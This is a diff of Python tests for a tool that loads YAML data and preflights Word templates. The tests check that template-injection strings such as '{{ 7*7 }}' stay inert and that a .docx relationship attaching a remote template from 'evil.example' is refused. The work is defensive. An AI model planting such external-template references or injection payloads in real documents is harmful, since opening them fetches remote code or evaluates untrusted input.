@@ -121,10 +121,17 @@ def test_data_is_never_evaluated_as_a_template(tmp_path: Path) -> None:
     assert "{ 7*7 } ${x} <b>&amp;" in text
 
 
-def test_template_delimiters_in_data_are_refused(tmp_path: Path) -> None:
+def test_template_delimiters_in_data_are_data(tmp_path: Path) -> None:
+    """Data is never evaluated as a template, so braces in it are kept as they are."""
     folder = write_mini(tmp_path / "data", **{"leave.yaml": MINI["leave.yaml"].replace(
-        "reason: 办理个人事务", "reason: '{{ 7*7 }}'")})
-    with pytest.raises(InputError, match="leave.0.reason: contains '{{', which marks template tags"):
+        "reason: 办理个人事务", "reason: '{{ 7*7 }} {% raw %}'")})
+    assert load_dataset(folder).leave[0].reason == "{{ 7*7 }} {% raw %}"
+
+
+def test_the_characters_that_mark_data_braces_are_refused_in_data(tmp_path: Path) -> None:
+    folder = write_mini(tmp_path / "data", **{"leave.yaml": MINI["leave.yaml"].replace(
+        "reason: 办理个人事务", "reason: \"a\\ufdd0b\"")})
+    with pytest.raises(InputError, match="contains U\\+FDD0 at position 2"):
         load_dataset(folder)
 
 
@@ -170,7 +177,7 @@ def test_zip_bomb_macros_entities_and_external_refs_are_refused(tmp_path: Path) 
                   b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                   b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
                   b"</Relationships>"})
-    with pytest.raises(TemplateError, match="external resource"):
+    with pytest.raises(TemplateError, match="settings.xml.rels holds an attached template"):
         preflight(remote)
 
 
